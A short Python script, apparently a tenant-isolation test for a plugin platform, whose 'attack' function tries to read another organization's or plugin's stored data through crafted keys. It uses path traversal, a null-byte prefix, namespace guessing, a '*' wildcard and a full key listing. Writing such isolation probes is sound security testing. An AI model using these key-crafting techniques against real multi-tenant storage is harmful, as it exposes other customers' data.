"""Reach another organization's (or plugin's) storage by crafting keys."""


def attack(event, ctx):
    got, errors = {}, []
    victim_key = event["key"]
    candidates = [
        victim_key,
        f"{event['org']}:{event['plugin']}:{victim_key}",
        f"../{event['org']}/{event['plugin']}/{victim_key}",
        f"{event['org']}/{event['plugin']}/{victim_key}",
        "\x00" + victim_key,
        "*",
    ]
    for key in candidates:
        try:
            value = ctx.storage.get(key)
            if value is not None:
                got[key] = value
        except Exception as exc:
            errors.append(f"{key!r}: {type(exc).__name__}: {exc}")
    try:
        got["keys"] = ctx.storage.keys()
    except Exception as exc:
        errors.append(f"keys: {type(exc).__name__}")
    return {"got": got, "errors": errors}
